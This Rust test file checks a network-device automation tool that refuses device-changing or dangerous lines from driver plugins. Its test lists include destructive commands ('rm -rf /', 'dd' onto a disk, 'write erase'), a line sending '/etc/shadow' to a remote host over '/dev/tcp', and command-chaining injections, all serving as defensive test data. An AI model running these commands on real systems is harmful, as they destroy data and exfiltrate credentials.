//! Which lines are sent unasked, and which are not.

use super::{
    Leave, Objection, Place, SentLine, check_plan, check_profile, check_recognition, lines, objection,
    objections,
};
use crate::{
    plugin::model::{Description, Evidence, Recognition},
    session::profile::{
        AnswerSpec, ModeSpec, PagerSpec, ProfileOverrides, ProfileSpec, QuestionSpec, TransitionSpec,
    },
};

fn said(text: &str) -> Option<Objection> {
    let line = SentLine {
        place: Place::AfterLogin,
        text: text.into(),
    };
    objection(&line, &Leave::default())
}

#[test]
fn what_sets_the_terminal_or_shows_something_is_sent() {
    for line in [
        "",
        "terminal length 0",
        "term len 0",
        "terminal width 511",
        "terminal pager 0",
        "terminal datadump",
        "set cli screen-length 0",
        "set cli pager off",
        "set clienv rows 0",
        "set length 0",
        "set terminal length 0",
        "no page",
        "no paging",
        "no pager",
        "screen-length disable",
        "screen-length 0 temporary",
        "undo terminal monitor",
        "environment no more",
        "environment more false",
        "config paging disable",
        "disable clipaging",
        "disable cli paging",
        "skip-page-display",
        "enable",
        "enable 15",
        "disable",
        "exit",
        "quit",
        "logout",
        "end",
        "exit configuration-mode",
        "cli",
        "show version",
        "sh run | include reload",
        "show interfaces | no-more",
        "display current-configuration",
        "do show clock",
        "admin show platform",
        "write terminal",
        "get system status",
        "/system resource print",
        "/ip address print detail",
        "ip -j -s link show",
        "ip a",
        "cat /proc/uptime",
        "cat /etc/os-release 2>/dev/null",
        "export LC_ALL=C PAGER=cat PATH=\"$PATH:/usr/sbin:/sbin\"",
        "ping 192.0.2.1 repeat 5",
        "traceroute 192.0.2.1",
        "hostname -f",
        "systemctl status ssh",
        // As answers.
        "y",
        "yes",
        "no",
        "n",
        "A",
    ] {
        assert_eq!(said(line), None, "{line}");
    }
}

#[test]
fn what_changes_or_stops_a_device_is_not() {
    for line in [
        "configure terminal",
        "configure",
        "conf t",
        "CONF T",
        "  configure private",
        "config t",
        "system-view",
        "sys",
        "write memory",
        "wr",
        "wr mem",
        "write erase",
        "copy running-config startup-config",
        "copy run tftp://192.0.2.9/x",
        "delete flash:x",
        "del /force flash:x",
        "erase startup-config",
        "format flash:",
        "reload",
        "rel in 5",
        "reboot",
        "restart system",
        "reset saved-configuration",
        "commit",
        "commit and-quit",
        "rollback 1",
        "request system reboot",
        "req system halt",
        "clear counters",
        "clear ip bgp *",
        "set system host-name x",
        "set console pager off",
        "no ip routing",
        "undo ip routing",
        "install add file flash:x",
        "boot system flash:x",
        "shutdown",
        "halt",
        "poweroff",
        "kill 1",
        "rm -rf /",
        "/bin/rm -rf /",
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda",
        "username eve privilege 15 secret x",
        "enable secret x",
        "snmp-server community public rw",
        "debug all",
        "debug ip packet",
        "do reload",
        "do wr",
        "admin reload location all",
        "run reboot",
        "sudo reboot",
        "sudo -n /sbin/reboot",
        "LC_ALL=C reboot",
        "sh -c 'reboot'",
        "bash -c \"reboot\"",
        "vtysh -c \"configure terminal\"",
        "show version ; reload",
        "show version; reload",
        "uname -a && reboot",
        "uname -a || reboot",
        "echo $(reboot)",
        "echo `reboot`",
        "true & reboot",
        "show running-config | redirect tftp://192.0.2.9/x",
        "show running-config | tee flash:x",
        "show running-config | append flash:x",
        "show configuration | save /tmp/x",
        "show running-config > flash:x",
        "echo b > /proc/sysrq-trigger",
        "cat /etc/shadow >/dev/tcp/192.0.2.9/1",
        "/system reboot",
        "/system/reboot",
        "/system reset-configuration",
        "/ip address add address=192.0.2.1/24 interface=ether1",
        "system reboot",
        "execute reboot",
        "execute factoryreset",
        "hw-module subslot 0/1 reload",
        "modify cli preference pager disabled",
        "ip link set eth0 down",
        "ip route del default",
        "systemctl stop sshd",
        "ssh 192.0.2.9",
        "telnet 192.0.2.9",
        "curl http://192.0.2.9/x",
        "tclsh",
        "python3 x.py",
    ] {
        assert!(
            matches!(said(line), Some(Objection::Command { .. })),
            "{line}: {:?}",
            said(line)
        );
    }
}

#[test]
fn a_second_line_does_not_hide_in_the_first() {
    for line in [
        "terminal length 0\nreload",
        "terminal length 0\r",
        "show\tversion",
        "show version\u{8}\u{8}",
        "show version\0",
        "\u{1b}[A",
        "\u{3}",
        "show version\u{85}reload",
    ] {
        assert_eq!(said(line), Some(Objection::Control), "{line:?}");
    }
}

#[test]
fn the_user_allows_a_line_word_for_word() {
    let leave = Leave::Harmless(["set console pager off".to_owned()].into());
    let allowed = |text: &str| {
        let line = SentLine {
            place: Place::AfterLogin,
            text: text.into(),
        };
        objection(&line, &leave).is_none()
    };
    assert!(allowed("set console pager off"));
    assert!(!allowed("set console pager off ") && !allowed("set console pager on"));
    assert!(
        objection(
            &SentLine {
                place: Place::AfterLogin,
                text: "reload\n".into()
            },
            &Leave::Everything
        )
        .is_none()
    );
}

fn transition(from: &str, to: &str, command: &str) -> TransitionSpec {
    TransitionSpec {
        from: from.into(),
        to: to.into(),
        command: command.into(),
        questions: Vec::new(),
    }
}

fn text(pattern: &str, answer: &str) -> QuestionSpec {
    QuestionSpec {
        pattern: pattern.into(),
        answer: AnswerSpec::Text(answer.into()),
        line_ending: true,
    }
}

/// A profile with three modes, as most have.
fn acme() -> Description {
    let mode = |name: &str| ModeSpec {
        name: name.into(),
        prompts: vec![format!("^{name}>$")],
    };
    Description {
        platform: "acme_os".into(),
        profile: Some(ProfileSpec {
            modes: vec![mode("exec"), mode("privileged"), mode("configuration")],
            transitions: vec![
                transition("exec", "privileged", "enable"),
                transition("privileged", "configuration", "configure terminal"),
                transition("configuration", "privileged", "end"),
            ],
            command_mode: "privileged".into(),
            on_open: vec!["terminal length 0".into()],
            on_close: vec!["exit".into()],
            pagers: vec![PagerSpec {
                pattern: "--More--".into(),
                answer: " ".into(),
            }],
            line_ending: "\n".into(),
            ..ProfileSpec::default()
        }),
        ..Description::default()
    }
}

/// What is said against this description's profile.
fn refusal(change: impl FnOnce(&mut ProfileSpec)) -> Option<String> {
    refusal_with(change, &ProfileOverrides::default())
}

fn refusal_with(change: impl FnOnce(&mut ProfileSpec), overrides: &ProfileOverrides) -> Option<String> {
    let mut acme = acme();
    change(acme.profile.as_mut().expect("a profile"));
    check_profile("acme.wasm", &acme, overrides, &Leave::default())
        .err()
        .map(|error| format!("{error}\n{}", error.hint()))
}

#[test]
fn a_way_that_no_session_takes_may_be_there() {
    assert_eq!(refusal(|_| {}), None);
    let into_configuration = refusal(|profile| profile.command_mode = "configuration".into());
    assert_eq!(
        into_configuration.expect("it is taken now"),
        "the driver acme.wasm makes nethost send \"configure terminal\" (the way from privileged to configuration): \
         `configure` changes the configuration\nif that is right, allow this very line in the configuration: \
         [drivers.acme_os] and below it sends = [\"configure terminal\"]"
    );
}

type Spoil = fn(&mut ProfileSpec);

#[test]
fn every_place_is_looked_at() {
    let places: [(&str, Spoil); 8] = [
        ("on_open", |it| it.on_open.push("reload".into())),
        ("on_close", |it| it.on_close.push("write memory".into())),
        ("from exec to privileged", |it| {
            it.transitions[0].command = "reload".into();
        }),
        ("question `Sure", |it| {
            it.transitions[0].questions.push(text("Sure[?]", "reload"));
        }),
        ("question `Sure", |it| {
            it.questions.push(text("Sure[?]", "y\nreload"));
        }),
        ("pager `--More--`", |it| it.pagers[0].answer = "\rreload\r".into()),
        ("pager `more`", |it| {
            it.pagers = vec![PagerSpec {
                pattern: "more".into(),
                answer: "reload\n".into(),
            }];
        }),
        ("line_ending", |it| it.line_ending = "\nreload\n".into()),
    ];
    for (place, change) in places {
        let refusal = refusal(change).expect(place);
        assert!(refusal.contains(place), "{place}: {refusal}");
    }
    for answer in [" ", "\n", "\r\n", "q", "y", "\u{3}", "\u{1b}", ""] {
        let refusal = refusal(|it| it.pagers[0].answer = answer.into());
        assert_eq!(refusal, None, "{answer:?}");
    }
}

#[test]
fn nothing_is_confirmed_in_the_users_name() {
    for (pattern, answer) in [
        (r"\[confirm\]", ""),
        (r"\[confirm\]\s*$", "y"),
        ("(?i)continue", "yes"),
        (r"\(y/n\)", "y"),
    ] {
        let refusal = refusal(|it| it.questions.push(text(pattern, answer))).expect(pattern);
        assert!(refusal.contains("it would also answer"), "{refusal}");
    }
    for (pattern, answer) in [
        (r"\[confirm\]", "n"),
        ("(?i)continue", "no"),
        (r"^Destination filename \[\S+\]\? $", ""),
        ("Press any key", ""),
    ] {
        assert_eq!(
            refusal(|it| it.questions.push(text(pattern, answer))),
            None,
            "{pattern}"
        );
    }
}

#[test]
fn what_the_inventory_says_is_the_users_own() {
    let own = ProfileOverrides {
        on_open: Some(vec!["reload".into()]),
        on_close: Some(Vec::new()),
        command_mode: Some("privileged".into()),
        line_ending: Some(";".into()),
        ..ProfileOverrides::default()
    };
    let bad = |it: &mut ProfileSpec| {
        it.on_open.push("reload".into());
        it.on_close.push("reload".into());
        it.line_ending = "\nreload\n".into();
        it.command_mode = "configuration".into();
    };
    assert!(refusal(bad).is_some());
    assert_eq!(refusal_with(bad, &own), None);
}

#[test]
fn plans_and_signs_are_looked_at_too() {
    let mut acme = acme();
    let ask = |command: &str| Recognition {
        evidence: Evidence::Output(command.into()),
        pattern: "Acme".into(),
        certainty: 90,
    };
    acme.recognitions = vec![ask("show version"), ask("show version")];
    let nothing = Leave::default();
    assert_eq!(check_recognition("acme.wasm", &acme, &nothing), Ok(()));
    acme.recognitions.push(ask("write erase"));
    let error = check_recognition("acme.wasm", &acme, &nothing).expect_err("it erases");
    assert!(
        error.to_string().contains("the signs that it is recognised by"),
        "{error}"
    );

    let plan = |line: &str| vec!["show version".to_owned(), line.to_owned()];
    let check = |line: &str| check_plan("acme.wasm", &acme, "facts", &plan(line), &nothing);
    assert_eq!(check("show inventory"), Ok(()));
    let error = check("reload").expect_err("it reloads");
    assert!(
        error.to_string().contains("the plan of the getter facts"),
        "{error}"
    );

    let all: Vec<String> = lines(&acme).into_iter().map(|line| line.text).collect();
    assert_eq!(
        all,
        [
            "\n",
            "terminal length 0",
            "exit",
            "enable",
            "end",
            " ",
            "show version",
            "write erase"
        ]
    );
    let [(line, _)] = &objections(&acme, &nothing)[..] else {
        panic!("one of them is refused")
    };
    assert_eq!(
        (line.text.as_str(), &line.place),
        ("write erase", &Place::Recognition)
    );
}
